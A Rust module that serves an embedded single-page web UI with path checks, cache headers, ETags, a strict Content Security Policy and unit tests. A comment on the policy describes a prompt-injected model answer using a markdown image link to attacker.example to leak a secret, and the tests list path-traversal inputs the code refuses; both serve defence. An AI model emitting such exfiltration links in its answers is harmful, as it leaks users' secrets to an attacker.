//! The web UI, served from the binary itself: Vite's build output (`ui/dist`, committed) is embedded at
//! compile time, so running the server needs no Node and serves byte-for-byte the files that were reviewed.
//!
//! The UI is a single-page app. `/assets/` holds the hashed chunks (their names change with their content,
//! so they are cached for good); every other path that is not a file at the root of `dist` is one of the
//! app's own routes (`/sessions/01…`, `/settings/models`) and gets `index.html`, which the app routes on the
//! client. The API (`/api/…`) never reaches this module: its unknown paths keep their JSON 404.
//!
//! No compression: no deflate crate is in the dependency tree, and the bundle is small and mostly served
//! over loopback, where gzip would cost more CPU than the transfer it saves.

use std::fmt::Write as _;

use axum::body::{Body, Bytes};
use axum::http::header::{
    CACHE_CONTROL, CONTENT_SECURITY_POLICY, CONTENT_TYPE, ETAG, IF_NONE_MATCH, REFERRER_POLICY, X_CONTENT_TYPE_OPTIONS,
    X_FRAME_OPTIONS,
};
use axum::http::{HeaderMap, HeaderValue, Method, StatusCode};
use axum::response::{IntoResponse, Response};
use rust_embed::{EmbeddedFile, RustEmbed};

use crate::error::ApiError;

/// `ui/dist`, embedded in debug builds too (`debug-embed`): tests see what a release serves, not the working
/// tree. `build.rs` rebuilds the crate when a file there is added or removed.
#[derive(RustEmbed)]
#[folder = "../../ui/dist"]
struct Dist;

const INDEX: &str = "index.html";
const ASSETS: &str = "assets/";

/// Hashed file names: a new build gets new names, so a browser may keep these as long as it likes.
const IMMUTABLE: &str = "public, max-age=31536000, immutable";
/// `index.html` (and other unhashed files) are revalidated on every load, so a new build is picked up at once;
/// the ETag keeps that revalidation to a 304.
const REVALIDATE: &str = "no-cache";

/// The UI's policy: everything from this origin only, no inline script, nothing may frame the app.
/// `img-src` leaves out remote hosts on purpose: the UI renders model answers as markdown, and a
/// prompt-injected answer holding `![](https://attacker.example/?q=<secret>)` would otherwise send data to
/// the attacker the moment it is displayed. `style-src 'unsafe-inline'` is for the style attributes
/// component libraries set at run time; inline *script* stays forbidden.
const CONTENT_SECURITY_POLICY_VALUE: &str = "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; \
     img-src 'self' data: blob:; font-src 'self' data:; connect-src 'self'; frame-src 'none'; object-src 'none'; \
     frame-ancestors 'none'; base-uri 'none'; form-action 'self'";

/// Whether a request is the UI's to answer: a safe method on any path outside the server's own. Other
/// methods on these paths, and the server's paths, get the API's JSON errors.
pub fn answers(method: &Method, path: &str) -> bool {
    matches!(*method, Method::GET | Method::HEAD) && !is_server_path(path)
}

/// The API, and the paths under `/healthz` and `/readyz`: a health check sent to `/healthz/` by mistake must
/// fail with a 404, not pass on the UI's 200.
fn is_server_path(path: &str) -> bool {
    path == "/api" || path.starts_with("/api/") || path.starts_with("/healthz/") || path.starts_with("/readyz/")
}

/// The answer to a `GET`/`HEAD` of `path` (as sent, not percent-decoded) that [`answers`] accepted.
pub fn respond(path: &str, request_headers: &HeaderMap) -> Response {
    let relative = path.strip_prefix('/').unwrap_or(path);
    if relative.starts_with(ASSETS) {
        // A chunk the build does not have is a 404, never `index.html`: a tab still running an old build
        // that asks for one of its chunks must fail visibly, not parse HTML as JavaScript.
        return match embedded(relative) {
            Some(file) => file_response(&file, IMMUTABLE, request_headers),
            None => ApiError::not_found(format!("File not found: {path}")).into_response(),
        };
    }
    if let Some(file) = embedded(relative) {
        return file_response(&file, REVALIDATE, request_headers);
    }
    match Dist::get(INDEX) {
        Some(index) => file_response(&index, REVALIDATE, request_headers),
        // A build of the server always embeds a UI build; without `index.html` that build is broken.
        None => ApiError::internal("the embedded web UI has no index.html").into_response(),
    }
}

/// The embedded file at `relative`, when it is a plain relative name. The embedded set only holds files
/// under `ui/dist`, so nothing else could be served anyway; refusing odd names first also keeps `rust-embed`
/// from reading `\` as `/`, and leaves percent-encoded names (`%2e%2e`) unmatched rather than decoded.
fn embedded(relative: &str) -> Option<EmbeddedFile> {
    let plain = !relative.is_empty()
        && !relative.contains(['\\', '%', '\0'])
        && relative
            .split('/')
            .all(|segment| !segment.is_empty() && segment != "." && segment != "..");
    if plain { Dist::get(relative) } else { None }
}

fn file_response(file: &EmbeddedFile, cache_control: &'static str, request_headers: &HeaderMap) -> Response {
    let etag = etag(&file.metadata.sha256_hash());
    let mut headers = HeaderMap::new();
    headers.insert(CACHE_CONTROL, HeaderValue::from_static(cache_control));
    if let Ok(value) = HeaderValue::from_str(&etag) {
        headers.insert(ETAG, value);
    }
    headers.insert(
        CONTENT_SECURITY_POLICY,
        HeaderValue::from_static(CONTENT_SECURITY_POLICY_VALUE),
    );
    headers.insert(X_CONTENT_TYPE_OPTIONS, HeaderValue::from_static("nosniff"));
    headers.insert(REFERRER_POLICY, HeaderValue::from_static("no-referrer"));
    headers.insert(X_FRAME_OPTIONS, HeaderValue::from_static("DENY"));
    if none_match(request_headers, &etag) {
        return (StatusCode::NOT_MODIFIED, headers).into_response();
    }
    if let Ok(value) = HeaderValue::from_str(&content_type(file.metadata.mimetype())) {
        headers.insert(CONTENT_TYPE, value);
    }
    let body = match &file.data {
        std::borrow::Cow::Borrowed(bytes) => Bytes::from_static(bytes),
        std::borrow::Cow::Owned(bytes) => Bytes::from(bytes.clone()),
    };
    (StatusCode::OK, headers, Body::from(body)).into_response()
}

/// A strong ETag from the file's SHA-256, which `rust-embed` computed at build time.
fn etag(hash: &[u8; 32]) -> String {
    let mut tag = String::with_capacity(66);
    tag.push('"');
    for byte in hash {
        let _ = write!(tag, "{byte:02x}");
    }
    tag.push('"');
    tag
}

/// Whether `If-None-Match` names `etag` (or is `*`). The comparison is the weak one RFC 9110 prescribes
/// for this header, so `W/"…"` from a cache that weakened our tag still matches. Garbage matches nothing.
fn none_match(request_headers: &HeaderMap, etag: &str) -> bool {
    request_headers
        .get_all(IF_NONE_MATCH)
        .iter()
        .filter_map(|value| value.to_str().ok())
        .flat_map(|value| value.split(','))
        .map(str::trim)
        .any(|candidate| candidate == "*" || candidate.strip_prefix("W/").unwrap_or(candidate) == etag)
}

/// The file's type, with `charset=utf-8` on text (Vite writes UTF-8; without it a browser guesses).
fn content_type(mime: &str) -> String {
    let textual = mime.starts_with("text/") || mime == "application/javascript" || mime == "application/json";
    if textual && !mime.contains("charset") {
        format!("{mime}; charset=utf-8")
    } else {
        mime.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_plain_relative_names_are_looked_up() {
        for name in [
            "",
            "assets/../index.html",
            "./index.html",
            "assets//x.js",
            "assets\\x.js",
            "%2e%2e/Cargo.toml",
            "assets/%2e%2e/index.html",
            "index.html\0",
        ] {
            assert!(embedded(name).is_none(), "{name:?}");
        }
        assert!(embedded(INDEX).is_some(), "the build embeds index.html");
        // `rust-embed` itself would find an asset under `\` separators or a `./` segment; the names refused
        // here are refused by this module, not only by being absent.
        let asset = Dist::iter()
            .find(|name| name.starts_with(ASSETS))
            .expect("the build has assets");
        assert!(embedded(&asset).is_some(), "{asset}");
        assert!(
            Dist::get(&asset.replace('/', "\\")).is_some(),
            "rust-embed reads \\ as /"
        );
        for variant in [
            asset.replace('/', "\\"),
            format!("./{asset}"),
            asset.replacen('/', "/./", 1),
        ] {
            assert!(embedded(&variant).is_none(), "{variant}");
        }
    }

    #[test]
    fn the_api_is_never_the_uis() {
        assert!(answers(&Method::GET, "/"));
        assert!(answers(&Method::HEAD, "/sessions/01ABC"));
        assert!(answers(&Method::GET, "/apiary"));
        assert!(!answers(&Method::GET, "/api"));
        assert!(!answers(&Method::GET, "/api/v1/nope"));
        assert!(!answers(&Method::GET, "/healthz/"));
        assert!(!answers(&Method::GET, "/readyz/x"));
        assert!(answers(&Method::GET, "/healthzz"));
        assert!(!answers(&Method::POST, "/"));
        assert!(!answers(&Method::DELETE, "/assets/x.js"));
    }

    #[test]
    fn if_none_match_lists_and_weak_tags_match() {
        let tag = etag(&[0xab; 32]);
        let headers = |value: &str| {
            let mut map = HeaderMap::new();
            map.insert(IF_NONE_MATCH, HeaderValue::from_str(value).unwrap());
            map
        };
        assert!(none_match(&headers(&tag), &tag));
        assert!(none_match(&headers(&format!("\"x\", W/{tag}")), &tag));
        assert!(none_match(&headers("*"), &tag));
        assert!(!none_match(&headers("\"x\""), &tag));
        assert!(!none_match(&headers(&tag[1..65]), &tag), "unquoted");
        assert!(!none_match(&HeaderMap::new(), &tag));
    }

    #[test]
    fn text_gets_a_charset() {
        assert_eq!(content_type("text/html"), "text/html; charset=utf-8");
        assert_eq!(
            content_type("application/javascript"),
            "application/javascript; charset=utf-8"
        );
        assert_eq!(content_type("image/png"), "image/png");
        assert_eq!(content_type("text/css; charset=utf-8"), "text/css; charset=utf-8");
    }
}
